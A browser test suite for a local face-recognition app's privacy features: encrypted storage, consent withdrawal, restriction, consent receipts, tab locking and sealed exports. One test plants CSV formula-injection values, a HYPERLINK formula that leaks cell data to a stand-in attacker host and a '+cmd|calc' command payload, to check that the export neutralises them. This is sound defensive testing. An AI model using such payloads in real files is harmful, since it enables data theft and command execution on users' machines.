// Issue 13, "lawful by design, second round", through the real facade in Chromium (real models, real photos, real
// IndexedDB). Where a claim is about storage, storage is read (or written) directly, not through the app.
import { describe, expect, inject, it } from 'vitest';
import type { Page } from 'playwright-core';
import { readFileSync, readdirSync } from 'node:fs';
import { WatchedPage, facePath, giveConsent, readDeviceStorage, waitForApp } from './browser';
import { harnessSuite } from './suite';
import { consentFor } from '../test-consent';

const harness = harnessSuite({ network: 'no-data-sent' });

declare global {
  interface Window {
    /** The matcher a test is working with, kept between page.evaluate calls. */
    lawful: Awaited<ReturnType<Window['facelocal']['openMatcher']>>;
  }
}

/** Adds a row to a store of the database, directly (as another version of the app, or an attacker, might). */
async function putDirect(database: string, store: string, value: unknown): Promise<void> {
  await harness.page.evaluate(
    async ({ database, store, value }) => {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const req = indexedDB.open(database);
        req.onsuccess = () => resolve(req.result);
        req.onerror = () => reject(req.error);
      });
      await new Promise<void>((resolve, reject) => {
        const tx = db.transaction(store, 'readwrite');
        tx.objectStore(store).put(value);
        tx.oncomplete = () => resolve();
        tx.onerror = () => reject(tx.error);
      });
      db.close();
    },
    { database, store, value },
  );
}

describe('audit CSV (item 9)', () => {
  it('neutralises cells a spreadsheet would run as formulas, and quotes every field', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    await harness.page.evaluate(async () => {
      window.lawful = await window.facelocal.openMatcher({ databaseName: 'lawful-csv' });
    });
    await putDirect('lawful-csv', 'audit', {
      id: 'planted',
      at: Date.now(),
      action: 'import',
      outcome: hostile,
      personId: '+cmd|calc',
    });
    const text = await harness.page.evaluate(async () => (await window.lawful.exportAuditLog()).text());
    const lines = text.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('"time","action","outcome","personId"');
    for (const line of lines) expect(line.startsWith('"')).toBe(true);
    const planted = lines.find((l) => l.includes('HYPERLINK'))!;
    expect(planted).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(planted.endsWith(`"'+cmd|calc"`)).toBe(true);
    expect((await readDeviceStorage(harness.page)).stores['lawful-csv/audit']).toContainEqual(
      expect.objectContaining({ id: 'planted', outcome: hostile }),
    );
    await harness.page.evaluate(() => window.lawful.close()); // its workers must not stay loaded for the rest of the file
  });
});

const PASS = 'correct horse battery staple';

/** Opens the harness in another tab of the same browser profile (same IndexedDB, same Web Locks). */
async function secondTab(): Promise<Page> {
  const other = await harness.context.newPage();
  await other.goto(new URL('test/harness/', inject('baseUrl')).href);
  await other.waitForFunction(() => document.body.dataset.ready === 'true');
  return other;
}

/** The payload kinds of every record of the payload stores, read straight from IndexedDB. */
async function payloadKinds(database: string): Promise<string[]> {
  const { stores } = await readDeviceStorage(harness.page);
  return ['people', 'templates', 'importFaces'].flatMap((s) =>
    ((stores[`${database}/${s}`] ?? []) as { payload: { kind: string } }[]).map((r) => r.payload.kind),
  );
}

describe('encryption that really encrypts (item 5)', () => {
  it('refuses a weak passphrase with the reason, and an enable while another tab imports', async () => {
    const db = 'lawful-encryption';
    const other = await secondTab();
    try {
      await harness.page.evaluate(async (db) => {
        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
        const consent = window.facelocal.consentFor('Obama');
        await window.lawful.enrol({ name: 'Obama', consent }, [await window.facelocal.facePhoto('obama/obama.jpg')]);
      }, db);
      const weak = await harness.page.evaluate(async () =>
        window.lawful.enableEncryption('password2026').then(
          () => null,
          (e) => ({ code: e.code, message: e.message }),
        ),
      );
      expect(weak?.code).toBe('invalid-passphrase');
      expect(weak?.message).toMatch(/common password/);

      // The other tab starts a photo-library import; while it runs, encryption is refused here.
      await other.evaluate(async (db) => {
        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
        const files = await Promise.all(
          [
            '_group/facerec_obama_and_biden.jpg',
            '_group/faceapi_bbt1.jpg',
            '_group/faceapi_bbt2.jpg',
            '_group/faceapi_bbt3.jpg',
          ].map((f) => window.facelocal.facePhoto(f)),
        );
        const run = await window.lawful.imports.start(files);
        (window as unknown as { importDone: Promise<unknown> }).importDone = run.done;
      }, db);
      const busy = await harness.page.evaluate(
        async (pass) =>
          window.lawful.enableEncryption(pass).then(
            () => null,
            (e) => ({ code: e.code, message: e.message }),
          ),
        PASS,
      );
      expect(busy?.code).toBe('busy');
      expect(busy?.message).toMatch(/import is running/);
      expect(await harness.page.evaluate(() => window.lawful.encryption.enabled)).toBe(false);
      await other.evaluate(() => (window as unknown as { importDone: Promise<unknown> }).importDone);
      expect((await payloadKinds(db)).filter((k) => k === 'plain').length).toBeGreaterThan(2); // person, template, import faces
    } finally {
      await other.close();
    }
  });

  it('turns on at scrypt N=2^17 while another tab enrols, leaves nothing in clear, and the unlock time is measured', async () => {
    const db = 'lawful-encryption';
    const other = await secondTab();
    try {
      await other.evaluate(async (db) => {
        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
      }, db);
      // The other tab enrols while this one derives the key and seals: whichever lands first, nothing stays in clear.
      const [enabledMs, otherOutcome] = await Promise.all([
        harness.page.evaluate(async (pass) => {
          const t = performance.now();
          await window.lawful.enableEncryption(pass);
          return performance.now() - t;
        }, PASS),
        other.evaluate(async () => {
          const consent = window.facelocal.consentFor('Biden');
          const photo = await window.facelocal.facePhoto('biden/biden.jpg');
          return window.lawful.enrol({ name: 'Biden', consent }, [photo]).then(
            (r) => (r.person ? 'enrolled' : 'refused'),
            (e) => e.code as string,
          );
        }),
      ]);
      expect(['enrolled', 'locked']).toContain(otherOutcome); // 'locked': it came after the switch and wrote nothing
      const kinds = await payloadKinds(db);
      expect(kinds.length).toBeGreaterThan(0);
      expect(kinds.filter((k) => k !== 'sealed')).toEqual([]);
      const { stores } = await readDeviceStorage(harness.page);
      expect((stores[`${db}/settings`] as { params: { N: number; r: number } }[])[0].params).toMatchObject({
        N: 2 ** 17,
        r: 8,
      });

      const unlockMs = await harness.page.evaluate(
        async ({ db, pass }) => {
          await window.lawful.close();
          window.lawful = await window.facelocal.openMatcher({ databaseName: db });
          const t = performance.now();
          await window.lawful.unlock(pass);
          return performance.now() - t;
        },
        { db, pass: PASS },
      );
      console.log(
        `scrypt N=2^17 r=8: enable (derive + seal) ${Math.round(enabledMs)} ms, unlock (derive + verify + load) ${Math.round(unlockMs)} ms`,
      );
      const names = await harness.page.evaluate(async () => (await window.lawful.listPeople()).map((p) => p.name));
      expect(names).toContain('Obama');
      if (otherOutcome === 'enrolled') expect(names).toContain('Biden');
    } finally {
      await other.close();
    }
  });

  it('refuses on read a record planted in clear once encryption is on', async () => {
    const db = 'lawful-encryption';
    await putDirect(db, 'people', {
      id: 'planted',
      createdAt: 0,
      updatedAt: 0,
      expiresAt: null,
      payload: { kind: 'plain', bytes: new Uint8Array([0x80]) },
    });
    const error = await harness.page.evaluate(async () =>
      window.lawful.listPeople().then(
        () => null,
        (e) => ({ code: e.code, message: e.message }),
      ),
    );
    expect(error?.code).toBe('tampered');
    expect(error?.message).toMatch(/unencrypted although encryption is on/);
    await harness.page.evaluate(() => window.lawful.close());
  });
});

describe('withdrawal sticks (item 4)', () => {
  it('an older export of a person who withdrew is refused, saying who and why; the tombstone holds nothing personal', async () => {
    const db = 'lawful-tombstones';
    const result = await harness.page.evaluate(
      async ({ db, consent }) => {
        window.lawful = await window.facelocal.openMatcher({ databaseName: db });
        const photo = await window.facelocal.facePhoto('obama/obama.jpg');
        const { person } = await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
        const exported = await (await window.lawful.exportPerson(person!.id)).text();
        await window.lawful.withdrawConsent(person!.id);
        const refused = await window.lawful.importGallery(new Blob([exported])).then(
          () => null,
          (e) => ({ code: e.code, message: e.message }),
        );
        return {
          id: person!.id,
          refused,
          people: (await window.lawful.listPeople()).length,
          audit: (await window.lawful.auditLog()).map((e) => `${e.action}: ${e.outcome}`),
        };
      },
      { db, consent: consentFor('Barack Obama') },
    );
    expect(result.refused?.code).toBe('withdrawn');
    expect(result.refused?.message).toMatch(
      /nothing was changed: people\.0 \(Barack Obama\): Barack Obama withdrew consent on \d{4}-\d\d-\d\d/,
    );
    expect(result.people).toBe(0);
    expect(result.audit).toContain('import: refused: a person in the file withdrew or was erased here');
    const { stores } = await readDeviceStorage(harness.page);
    expect(stores[`${db}/people`]).toEqual([]);
    expect(stores[`${db}/templates`]).toEqual([]);
    const tombstones = stores[`${db}/tombstones`] as Record<string, unknown>[];
    expect(tombstones).toHaveLength(1);
    expect(Object.keys(tombstones[0]).sort()).toEqual(['at', 'key', 'reason']);
    expect(tombstones[0]).toMatchObject({ reason: 'withdraw', key: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect(JSON.stringify(tombstones)).not.toContain(result.id);
    expect(JSON.stringify(tombstones)).not.toMatch(/Obama/i);
    await harness.page.evaluate(() => window.lawful.close());
  });

  it('a gallery made by the previous version (database version 2) opens with everything in it, and works', async () => {
    // A real person enrolled by this build, whose records are then laid out in a version-2 database exactly as the
    // previous release created it; opening it upgrades it in place.
    const outcome = await harness.page.evaluate(async (consent) => {
      const source = await window.facelocal.openMatcher({ databaseName: 'lawful-v2-source' });
      const photo = await window.facelocal.facePhoto('obama/obama1.jpg');
      await source.enrol({ name: 'Barack Obama', consent }, [photo]);
      await source.close();
      const open = (name: string, version?: number, upgrade?: (db: IDBDatabase) => void) =>
        new Promise<IDBDatabase>((resolve, reject) => {
          const req = version ? indexedDB.open(name, version) : indexedDB.open(name);
          req.onupgradeneeded = () => upgrade?.(req.result);
          req.onsuccess = () => resolve(req.result);
          req.onerror = () => reject(req.error);
        });
      const all = (db: IDBDatabase, store: string) =>
        new Promise<unknown[]>((resolve) => {
          db.transaction(store).objectStore(store).getAll().onsuccess = (e) => resolve((e.target as IDBRequest).result);
        });
      const src = await open('lawful-v2-source');
      const people = (await all(src, 'people')).map((p) => {
        const { importedFrom: _gone, ...v2 } = p as Record<string, unknown>;
        return v2;
      });
      const templates = await all(src, 'templates');
      const audit = await all(src, 'audit');
      src.close();
      const v2 = await open('lawful-v2', 2, (db) => {
        db.createObjectStore('people', { keyPath: 'id' }).createIndex('byExpiry', 'expiresAt');
        db.createObjectStore('templates', { keyPath: 'id' }).createIndex('byPerson', 'personId');
        db.createObjectStore('audit', { keyPath: 'id' }).createIndex('byTime', 'at');
        db.createObjectStore('settings', { keyPath: 'key' });
        db.createObjectStore('importJobs', { keyPath: 'id' });
        db.createObjectStore('importFiles', { keyPath: ['jobId', 'fileKey'] }).createIndex('byJob', 'jobId');
        db.createObjectStore('importFaces', { keyPath: 'id' }).createIndex('byJob', 'jobId');
      });
      await new Promise<void>((resolve) => {
        const tx = v2.transaction(['people', 'templates', 'audit'], 'readwrite');
        for (const p of people) tx.objectStore('people').put(p);
        for (const t of templates) tx.objectStore('templates').put(t);
        for (const a of audit) tx.objectStore('audit').put(a);
        tx.oncomplete = () => resolve();
      });
      v2.close();
      const before = { people: people.length, templates: templates.length, audit: audit.length };

      const upgraded = await window.facelocal.openMatcher({ databaseName: 'lawful-v2' });
      const listed = await upgraded.listPeople();
      const probe = await (await fetch('/__faces/obama/obama2.jpg')).blob();
      const match = (await upgraded.identify(probe)).faces[0]?.match;
      const auditAfter = (await upgraded.auditLog()).length;
      await upgraded.close();
      const check = await open('lawful-v2');
      const after = { version: check.version, stores: Array.from(check.objectStoreNames).sort() };
      check.close();
      return {
        before,
        listed: listed.map((p) => ({ name: p.name, templateCount: p.templateCount, consent: p.consent.subjectName })),
        match,
        auditAfter,
        after,
      };
    }, consentFor('Barack Obama'));
    expect(outcome.before).toMatchObject({ people: 1, templates: 1 });
    expect(outcome.listed).toEqual([{ name: 'Barack Obama', templateCount: 1, consent: 'Barack Obama' }]);
    expect(outcome.match).toMatchObject({ kind: 'known', name: 'Barack Obama' });
    expect(outcome.auditAfter).toBeGreaterThan(outcome.before.audit); // old entries kept, the identification added
    expect(outcome.after.version).toBe(3);
    expect(outcome.after.stores).toContain('tombstones');
  });
});

describe('restriction of processing (item 2)', () => {
  it('a restricted person is kept but never matched or shown, cannot get photos, until lifted; audited both ways', async () => {
    const db = 'lawful-restrict';
    const r = await harness.page.evaluate(
      async ({ db, obama, biden }) => {
        const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
        const file = (f: string) => window.facelocal.facePhoto(f);
        const { person } = await m.enrol({ name: 'Barack Obama', consent: obama }, [
          await file('obama/obama.jpg'),
          await file('obama/obama1.jpg'),
        ]);
        await m.enrol({ name: 'Joe Biden', consent: biden }, [await file('biden/biden.jpg')]);
        const id = person!.id;
        const look = async () => {
          const face = (await m.identify(await file('obama/obama3.jpg'))).faces[0];
          const self = await m.selfCheck(await file('obama/obama2.jpg'));
          return {
            match: face.match.kind === 'unknown' ? 'unknown' : face.match.personId,
            candidates: face.candidates.map((c) => c.personId),
            self: self.found ? self.name : null,
          };
        };
        const before = await look();
        const restricted = await m.restrictPerson(id, 'contests the match of 2 December');
        const during = await look();
        const addPhotos = await m.addPhotos(id, [await file('obama/obama2.jpg')]).then(
          () => 'added',
          (e) => e.code as string,
        );
        const listed = (await m.listPeople()).find((p) => p.id === id);
        const lifted = await m.liftRestriction(id);
        const after = await look();
        const audit = (await m.auditLog()).filter((e) => e.personId === id).map((e) => e.action);
        return {
          id,
          before,
          restricted: restricted.restriction,
          during,
          addPhotos,
          listed: listed && { restriction: listed.restriction, templateCount: listed.templateCount },
          lifted: lifted.restriction,
          after,
          audit,
        };
      },
      { db, obama: consentFor('Barack Obama'), biden: consentFor('Joe Biden') },
    );

    expect(r.before).toMatchObject({ match: r.id, self: 'Barack Obama' });
    expect(r.restricted).toMatchObject({ reason: 'contests the match of 2 December', since: expect.any(Number) });
    expect(r.during.match).not.toBe(r.id);
    expect(r.during.candidates).not.toContain(r.id);
    expect(r.during.self).toBeNull();
    expect(r.addPhotos).toBe('restricted');
    expect(r.listed).toEqual({ restriction: r.restricted, templateCount: 2 }); // kept, with both photos
    expect(r.lifted).toBeNull();
    expect(r.after).toMatchObject({ match: r.id, self: 'Barack Obama' });
    expect(r.audit).toEqual(expect.arrayContaining(['enrol', 'restrict', 'lift-restriction']));
    // While restricted nothing was erased: storage still holds the person and both templates.
    const { stores } = await readDeviceStorage(harness.page);
    expect((stores[`${db}/people`] as { id: string }[]).map((p) => p.id)).toContain(r.id);
    expect((stores[`${db}/templates`] as { personId: string }[]).filter((t) => t.personId === r.id)).toHaveLength(2);
    await harness.page.evaluate(() => window.lawful.close());
  });

  it('the people list shows the restriction and lifts it (app UI)', async () => {
    const ui = await harness.context.newPage();
    try {
      // The app's own gallery: enrol through the facade on the harness page (same origin), then use the app.
      await harness.page.evaluate(async (consent) => {
        const m = await window.facelocal.openMatcher();
        const photo = await window.facelocal.facePhoto('obama/obama.jpg');
        await m.enrol({ name: 'Barack Obama', consent }, [photo]);
        await m.close();
      }, consentFor('Barack Obama'));
      await ui.goto(inject('baseUrl'));
      await waitForApp(ui);
      await ui.click('[data-testid=tab-people]');
      const card = ui.locator('[data-testid=person][data-name="Barack Obama"]');
      await card.locator('[data-testid=restrict]').click();
      await card.locator('[data-testid=restrict-save]').click(); // no reason given
      await card.locator('[data-testid=message]', { hasText: 'Say why' }).waitFor();
      await card.locator('[data-testid=restrict-reason]').fill('contests a match');
      await card.locator('[data-testid=restrict-save]').click();
      await ui
        .locator('[data-testid=person][data-restricted=true] [data-testid=person-restriction]', {
          hasText: 'contests a match',
        })
        .waitFor();
      await ui.locator('[data-testid=person][data-restricted=true] [data-testid=lift-restriction]').click();
      await ui.locator('[data-testid=person][data-name="Barack Obama"][data-restricted=false]').waitFor();
    } finally {
      await ui.close();
    }
  });
});

describe('consent receipts (item 1)', () => {
  it('a receipt at enrolment and at withdrawal, agreeing with the export', async () => {
    const db = 'lawful-receipts';
    const r = await harness.page.evaluate(
      async ({ db, consent }) => {
        const m = (window.lawful = await window.facelocal.openMatcher({ databaseName: db }));
        const photo = await window.facelocal.facePhoto('amy/amy1.png');
        const { person } = await m.enrol({ name: 'Amy', consent }, [photo]);
        const given = await m.consentReceipt(person!.id);
        const again = await m.consentReceipt(person!.id);
        const exported = JSON.parse(await (await m.exportPerson(person!.id)).text());
        const withdrawn = await m.withdrawConsent(person!.id);
        return { id: person!.id, given, againId: again.receiptId, exported: exported.people[0], withdrawn };
      },
      {
        db,
        consent: { ...consentFor('Amy Farrah Fowler', { days: 365, collectedBy: 'Op' }), purposeDetail: 'Lab access' },
      },
    );
    expect(r.given.json).toMatchObject({
      version: 'KI-CR-v1.1.0',
      piiPrincipalId: 'Amy Farrah Fowler',
      piiControllers: [{ piiController: 'Op' }],
      sensitive: true,
    });
    expect(r.given.json.services[0].purposes[0].piiCategory.join(' ')).toMatch(/face template.*face thumbnail/);
    expect(r.againId).toBe(r.given.receiptId);
    // The export carries the same receipt, built from the same consent record.
    expect(r.exported.consentReceipt).toEqual(r.given.json);
    expect(r.exported.consentReceipt['x-facelocal'].personId).toBe(r.exported.id);
    expect(r.exported.consent.givenAt).toBe(r.given.json['x-facelocal'].consentGivenAt);
    expect(r.given.html).toMatch(/Keep this page[\s\S]*Amy Farrah Fowler[\s\S]*Lab access[\s\S]*How to withdraw/);
    expect(r.withdrawn?.json['x-facelocal']).toMatchObject({ event: 'withdrawn', personId: r.id });
    expect(r.withdrawn?.receiptId).not.toBe(r.given.receiptId);
    expect(r.withdrawn?.html).toContain('Receipt: consent withdrawn');
    await harness.page.evaluate(() => window.lawful.close());
  });

  it('the app offers the receipt right after enrolment, as a printable page and JSON', async () => {
    const ui = await harness.context.newPage();
    try {
      await ui.goto(inject('baseUrl'));
      await waitForApp(ui);
      await ui.click('[data-testid=tab-people]');
      await ui.fill('[data-testid=person-name]', 'Penny');
      await ui.setInputFiles('[data-testid=person-photos]', [
        facePath('penny/' + readdirSync(facePath('penny')).sort()[0]),
      ]);
      await giveConsent(ui);
      await ui.click('[data-testid=enrol-submit]');
      await ui.locator('[data-testid=enrolled-receipt]').waitFor({ timeout: 60_000 });
      const files: Record<string, string> = {};
      const downloads = new Promise<void>((resolve) => {
        ui.on('download', async (d) => {
          files[d.suggestedFilename()] = readFileSync((await d.path())!, 'utf8');
          if (Object.keys(files).length === 2) resolve();
        });
      });
      await ui.click('[data-testid=enrolled-receipt-download]');
      await downloads;
      const html = Object.entries(files).find(([n]) => n.endsWith('.html'))![1];
      const json = JSON.parse(Object.entries(files).find(([n]) => n.endsWith('.json'))![1]);
      expect(json.piiPrincipalId).toBe('Penny');
      expect(html).toContain(json.consentReceiptID);
      expect(html).toContain('Test Operator');
    } finally {
      await ui.close();
    }
  });
});

describe('locks that lock (item 5)', () => {
  it('locking one tab locks the others (key, index and names dropped); auto-lock when idle and when hidden', async () => {
    const db = 'lawful-locks';
    const other = await secondTab();
    try {
      await harness.page.evaluate(
        async ({ db, consent, pass }) => {
          window.lawful = await window.facelocal.openMatcher({ databaseName: db });
          const photo = await window.facelocal.facePhoto('obama/obama.jpg');
          await window.lawful.enrol({ name: 'Barack Obama', consent }, [photo]);
          await window.lawful.enableEncryption(pass);
        },
        { db, consent: consentFor('Barack Obama'), pass: PASS },
      );
      const otherBefore = await other.evaluate(
        async ({ db, pass }) => {
          const reasons: string[] = [];
          (window as unknown as { reasons: string[] }).reasons = reasons;
          window.lawful = await window.facelocal.openMatcher({
            databaseName: db,
            onGalleryChange: (r) => reasons.push(r),
          });
          const lockedAtOpen = window.lawful.encryption.locked;
          await window.lawful.unlock(pass);
          const probe = await (await fetch('/__faces/obama/obama3.jpg')).blob();
          return { lockedAtOpen, match: (await window.lawful.identify(probe)).faces[0].match.kind };
        },
        { db, pass: PASS },
      );
      expect(otherBefore).toEqual({ lockedAtOpen: true, match: 'known' });

      await harness.page.evaluate(() => window.lawful.lock());
      await other.waitForFunction(() => window.lawful.encryption.locked);
      const otherAfter = await other.evaluate(async () => {
        const probe = await (await fetch('/__faces/obama/obama3.jpg')).blob();
        return {
          reasons: (window as unknown as { reasons: string[] }).reasons,
          list: await window.lawful.listPeople().then(
            () => 'listed',
            (e) => e.code,
          ),
          identify: await window.lawful.identify(probe).then(
            () => 'identified',
            (e) => e.code,
          ),
        };
      });
      expect(otherAfter).toEqual({ reasons: ['locked'], list: 'locked', identify: 'locked' });

      // Idle: no input and no use for the chosen time locks this tab (and so every tab).
      await harness.page.evaluate(async (pass) => {
        await window.lawful.unlock(pass);
        await window.lawful.setAutoLock({ idleMs: 1500, whenHidden: false });
      }, PASS);
      await harness.page.waitForFunction(() => window.lawful.encryption.locked, undefined, { timeout: 30_000 });
      expect(await harness.page.evaluate(() => window.lawful.autoLockSetting())).toEqual({
        idleMs: 1500,
        whenHidden: false,
      });
      const tooShort = await harness.page.evaluate(() =>
        window.lawful.setAutoLock({ idleMs: 5, whenHidden: false }).then(
          () => null,
          (e) => e.code,
        ),
      );
      expect(tooShort).toBe('invalid-setting');

      // Hidden: the page going to the background locks at once.
      await harness.page.evaluate(async (pass) => {
        await window.lawful.unlock(pass);
        await window.lawful.setAutoLock({ idleMs: null, whenHidden: true });
      }, PASS);
      expect(await harness.page.evaluate(() => window.lawful.encryption.locked)).toBe(false);
      await harness.page.evaluate(() => {
        Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => 'hidden' });
        document.dispatchEvent(new Event('visibilitychange'));
      });
      expect(await harness.page.evaluate(() => window.lawful.encryption.locked)).toBe(true);
      await harness.page.evaluate(() => {
        delete (document as unknown as { visibilityState?: string }).visibilityState;
        return window.lawful.close();
      });
    } finally {
      await other.close();
    }
  }, 400_000); // three scrypt derivations at N=2^17 and two model loads on a shared 2-core machine
});

describe('persistent storage (item 7)', () => {
  it('is asked for at the first enrolment only, and the app says whether it was granted and what that means', async () => {
    const fresh = await WatchedPage.open(harness.browser, inject('baseUrl'), { serveFaces: true }); // a new profile: nothing persisted yet
    try {
      const p = fresh.page;
      await p.goto(new URL('test/harness/', inject('baseUrl')).href);
      await p.waitForFunction(() => document.body.dataset.ready === 'true');
      const r = await p.evaluate(async (consent) => {
        const calls: boolean[] = [];
        const real = navigator.storage.persist.bind(navigator.storage);
        navigator.storage.persist = async () => {
          const granted = await real();
          calls.push(granted);
          return granted;
        };
        const before = await navigator.storage.persisted();
        const m = await window.facelocal.openMatcher();
        const file = (f: string) => window.facelocal.facePhoto(f);
        const afterOpen = calls.length;
        await m.enrol({ name: 'Howard', consent: { ...consent, subjectName: 'Howard' } }, [
          await file('howard/' + 'howard1.png'),
        ]);
        const afterFirst = calls.length;
        await m.enrol({ name: 'Raj', consent: { ...consent, subjectName: 'Raj' } }, [await file('raj/raj1.png')]);
        const state = await m.storagePersistence();
        await m.close();
        return {
          before,
          afterOpen,
          afterFirst,
          afterSecond: calls.length,
          granted: calls[0],
          state,
          now: await navigator.storage.persisted(),
        };
      }, consentFor('Howard'));
      expect(r.before).toBe(false);
      expect(r.afterOpen).toBe(0);
      expect(r.afterFirst).toBe(1);
      expect(r.afterSecond).toBe(1);
      expect(r.state.persisted).toBe(r.now);
      expect(r.state.message).toMatch(
        r.now ? /granted: the browser will not erase/ : /not granted: .*may erase the whole gallery/,
      );
      console.log(`persistent storage in headless Chromium: ${r.granted ? 'granted' : 'not granted'}`);

      await p.goto(inject('baseUrl'));
      await waitForApp(p);
      await p.click('[data-testid=tab-data]');
      const shown = p.locator(`[data-testid=storage-persistence][data-persisted=${String(r.now)}]`);
      await shown.waitFor();
      expect(await shown.innerText()).toBe(r.state.message);
    } finally {
      await fresh.close();
    }
  });
});

describe('encrypted exports (item 6)', () => {
  // Three scrypt derivations at N=2^17 (seal, the wrong passphrase, the right one) and two model loads: past the
  // default two minutes on a loaded 2-core machine (it failed only in full runs). Matchers the earlier tests left
  // open (their workers and models) are now closed too.
  it('an export sealed under a chosen passphrase reads as nothing, and imports only with that passphrase', async () => {
    const r = await harness.page.evaluate(
      async ({ consent, pass }) => {
        const m = await window.facelocal.openMatcher({ databaseName: 'lawful-export-from' });
        const photo = await window.facelocal.facePhoto('kit_harington/john1.jpeg');
        const { person } = await m.enrol({ name: 'Kit Harington', consent }, [photo]);
        const weak = await m.exportGallery({ passphrase: 'kit12345' }).then(
          () => null,
          (e) => e.code,
        );
        const sealed = await (await m.exportPerson(person!.id, { passphrase: pass })).text();
        await m.close();
        const to = await window.facelocal.openMatcher({ databaseName: 'lawful-export-to' });
        const file = new Blob([sealed]);
        const without = await to.importGallery(file).then(
          () => null,
          (e) => e.code,
        );
        const wrong = await to.importGallery(file, { passphrase: 'wrong horse battery staple' }).then(
          () => null,
          (e) => e.code,
        );
        const peopleAfterRefusals = (await to.listPeople()).length;
        const imported = (await to.importGallery(file, { passphrase: pass })).map((p) => p.name);
        const audit = (await to.auditLog()).map((e) => e.outcome);
        await to.close();
        return { weak, sealed, without, wrong, peopleAfterRefusals, imported, audit };
      },
      { consent: consentFor('Kit Harington'), pass: PASS },
    );
    expect(r.weak).toBe('invalid-passphrase');
    const envelope = JSON.parse(r.sealed);
    expect(Object.keys(envelope).sort()).toEqual(['data', 'format', 'iv', 'kdf', 'version']);
    expect(envelope).toMatchObject({ format: 'facelocal-gallery-sealed', kdf: { name: 'scrypt', N: 2 ** 17, r: 8 } });
    // Nothing readable outside the ciphertext, nor inside it once decoded. (Matching short words against the base64
    // text itself failed about one run in twelve: random base64 contains "Kit" by chance.)
    expect(JSON.stringify({ ...envelope, data: null })).not.toMatch(/Kit|Harington|embedding|consent|john1/);
    expect(Buffer.from(envelope.data, 'base64').toString('latin1')).not.toMatch(
      /Kit Harington|embedding|consent|john1\.jpeg/,
    );
    expect(r.without).toBe('passphrase-required');
    expect(r.wrong).toBe('wrong-passphrase');
    expect(r.peopleAfterRefusals).toBe(0);
    expect(r.imported).toEqual(['Kit Harington']);
    expect(r.audit).toContain('1 people imported');
    const { stores } = await readDeviceStorage(harness.page);
    expect(stores['lawful-export-to/people']).toHaveLength(1);
  }, 400_000);
});
